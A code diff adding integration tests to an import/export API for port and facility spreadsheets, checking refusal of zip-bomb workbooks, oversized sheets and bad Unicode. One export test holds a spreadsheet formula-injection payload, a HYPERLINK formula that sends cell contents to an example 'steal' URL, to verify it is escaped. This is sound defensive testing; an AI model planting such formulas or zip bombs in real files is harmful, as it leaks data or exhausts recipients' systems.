@@ -1,15 +1,23 @@
+import { setTimeout as pause } from 'node:timers/promises';
 import ExcelJS from 'exceljs';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { FACILITY_IMPORT_COLUMNS, IMPORT_MAX_BYTES, IMPORT_PROGRESS_TYPE, PORT_IMPORT_COLUMNS, TRAFFIC_IMPORT_COLUMNS, importEventSchema, type ImportReport } from '../../contracts/index.ts';
+import {
+  FACILITY_IMPORT_COLUMNS, IMPORT_MAX_BYTES, IMPORT_MAX_ROWS, IMPORT_PROGRESS_TYPE, PORT_IMPORT_COLUMNS, TRAFFIC_IMPORT_COLUMNS, importEventSchema, type ImportReport,
+} from '../../contracts/index.ts';
 import { createTestApp, dbAvailable, login, type Agent, type TestApp } from './helpers.ts';
-import { multipartFile, workbook, xlsxUpload, type Upload } from './xlsx-upload.ts';
+import { bombXlsx, handWrittenXlsx, largeWorkbook, multipartFile, sheetRowXml, workbook, xlsxUpload, type Upload } from './xlsx-upload.ts';
 
 type ErrorReply = { error: { code: string; fields?: Record<string, string> } };
 
 const count = async (t: TestApp, table: 'facilities' | 'facilityCertifications' | 'ports' | 'traffic' | 'auditLog') =>
   Number((await t.ctx.db.selectFrom(table).select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
 
-const upload = (agent: Agent, url: string, file: Upload) => agent.post(url, file.payload, { 'content-type': file.contentType });
+const upload = (agent: Agent, url: string, file: Upload, headers: Record<string, string> = {}) => agent.post(url, file.payload, { 'content-type': file.contentType, ...headers });
+
+/** Five times the row limit and one more, made once for the file: a valid traffic sheet the import must refuse without reading it all. */
+let oversized: Promise<Buffer> | null = null;
+const oversizedTraffic = () =>
+  (oversized ??= largeWorkbook(TRAFFIC_IMPORT_COLUMNS, IMPORT_MAX_ROWS * 5 + 1, (i) => ['P-SEA-WEST', 'GRAIN', 2000 + (i % 26), 1 + (i % 12), 'tonnes', i]));
 
 const facilityRow = (port: string, type: string, quantity: number | string = 1, cert: [string, string, string] | null = null) =>
   [port, type, '原木处理区', quantity, 100, '2026-10-01', 'in_service', null, cert?.[0] ?? null, cert?.[1] ?? null, cert?.[2] ?? null, null];
@@ -102,6 +110,84 @@ describe.skipIf(!dbAvailable)('imports', () => {
       const unedited = await upload(officer, '/api/v1/facilities/import', multipartFile(Buffer.from(res.rawPayload), 'template.xlsx'));
       expect(unedited.statusCode).toBe(422);
       expect(await count(t, 'facilities')).toBe(before);
+    });
+  });
+
+  describe('reading a workbook', () => {
+    it('refuses a zip bomb from its directory, and one whose sizes lie as soon as it inflates past them (413)', async () => {
+      const before = await count(t, 'facilities');
+      const en = { 'accept-language': 'en' };
+      // Like the probe's: about 150 KB that inflate to 150 MiB, declared honestly.
+      const honest = await upload(officer, '/api/v1/facilities/import', multipartFile(bombXlsx(FACILITY_IMPORT_COLUMNS, 150), 'bomb.xlsx'), en);
+      expect(honest.statusCode, honest.body).toBe(413);
+      expect(honest.json<ErrorReply>().error).toMatchObject({ code: 'IMPORT_TOO_LARGE', fields: { file: expect.stringContaining('inflates past') } });
+      const ratio = await upload(officer, '/api/v1/facilities/import', multipartFile(bombXlsx(FACILITY_IMPORT_COLUMNS, 50), 'bomb.xlsx'), en);
+      expect(ratio.statusCode).toBe(413);
+      expect(ratio.json<ErrorReply>().error.fields?.file).toContain('zip bomb');
+      // The same bytes declaring a 512 KiB sheet: the directory passes, the inflation stops at 512 KiB + 1 byte.
+      const lying = await upload(officer, '/api/v1/facilities/import', multipartFile(bombXlsx(FACILITY_IMPORT_COLUMNS, 150, 512 * 1024), 'bomb.xlsx'));
+      expect(lying.statusCode, lying.body).toBe(413);
+      expect(lying.json<ErrorReply>().error).toMatchObject({ code: 'IMPORT_TOO_LARGE', fields: { file: '解压后的内容超过其声明的大小' } });
+      expect(await count(t, 'facilities')).toBe(before);
+    });
+
+    it(`stops at row ${IMPORT_MAX_ROWS + 1} of a ${IMPORT_MAX_ROWS * 5 + 1}-row workbook and answers 413`, async () => {
+      const before = await count(t, 'traffic');
+      const res = await upload(officer, '/api/v1/traffic/import', multipartFile(await oversizedTraffic(), 'traffic.xlsx'));
+      expect(res.statusCode, res.body).toBe(413);
+      expect(res.json<ErrorReply>().error.code).toBe('IMPORT_TOO_MANY_ROWS');
+      expect(await count(t, 'traffic')).toBe(before);
+    });
+
+    it('answers /healthz while a workbook is being read', async () => {
+      let settled = false;
+      const importing = upload(officer, '/api/v1/traffic/import', multipartFile(await oversizedTraffic(), 'traffic.xlsx')).finally(() => (settled = true));
+      const health: number[] = [];
+      do {
+        health.push((await t.app.inject({ method: 'GET', url: '/healthz' })).statusCode);
+        // An injected request may complete without giving I/O a turn; the pause lets the upload move on.
+        await pause(10);
+      } while (!settled);
+      expect(health.length).toBeGreaterThan(0);
+      expect(health.every((status) => status === 200)).toBe(true);
+      expect((await importing).statusCode).toBe(413);
+    });
+
+    it('names each cell holding a lone surrogate or NUL as a row problem, and refuses such a header (400)', async () => {
+      const row = (n: number, area: string, notes: string) => sheetRowXml(n, ['P-SEA-WEST', 'COLD_STORE', area, '1', '100', '2026-10-01', 'in_service', notes, null, null, null, null], false);
+      // `_x0000_` is how SpreadsheetML writes a character XML cannot carry; `&#xD800;` is a reference to half a surrogate pair.
+      const sheet = sheetRowXml(1, FACILITY_IMPORT_COLUMNS) + row(2, '冷链查验区', 'NUL_x0000_here') + row(3, '坏&#xD800;区', 'ok') + row(4, '冷链查验区', 'fine');
+      const res = await upload(officer, '/api/v1/facilities/import', multipartFile(handWrittenXlsx(sheet)), { 'accept-language': 'en' });
+      expect(res.statusCode, res.body).toBe(422);
+      expect(res.json<ImportReport>()).toEqual({
+        applied: 0,
+        problems: [
+          { row: 2, column: 'notes', message: 'must not contain NUL characters' },
+          { row: 3, column: 'functionalArea', message: 'holds an invalid Unicode character (a lone surrogate)' },
+        ],
+      });
+      const header = await upload(officer, '/api/v1/facilities/import', multipartFile(handWrittenXlsx(sheetRowXml(1, [...FACILITY_IMPORT_COLUMNS, 'x&#0;'], false))));
+      expect(header.statusCode).toBe(400);
+      expect(header.json<ErrorReply>().error).toMatchObject({ code: 'VALIDATION_FAILED', fields: { header: expect.any(String) } });
+    });
+  });
+
+  describe('ports.export', () => {
+    it('exports text that would read as a formula with a leading quote, and numbers as numbers', async () => {
+      const formula = '=HYPERLINK("http://example.com/steal?d="&A1,"点击查看")';
+      const port = ['P-SEA-FORMULA', 'BR-HARBOUR', '+口岸', formula, 'sea', 'II', '440000', '440300', 22.5, 113.9, 'planned', null];
+      const imported = await upload(officer, '/api/v1/ports/import', await xlsxUpload(PORT_IMPORT_COLUMNS, [port]));
+      expect(imported.json<ImportReport>()).toEqual({ applied: 1, problems: [] });
+      const res = await officer.get('/api/v1/ports/export?q=FORMULA');
+      expect(res.statusCode).toBe(200);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(new Uint8Array(res.rawPayload).buffer);
+      const exported = book.worksheets[0]?.getRow(2);
+      expect(exported?.getCell(1).value).toBe('P-SEA-FORMULA');
+      expect(exported?.getCell(2).value).toBe("'+口岸");
+      expect(exported?.getCell(3).value).toBe(`'${formula}`);
+      expect(exported?.getCell(3).type).toBe(ExcelJS.ValueType.String);
+      expect(exported?.getCell(9).value).toBe(22.5);
     });
   });
 
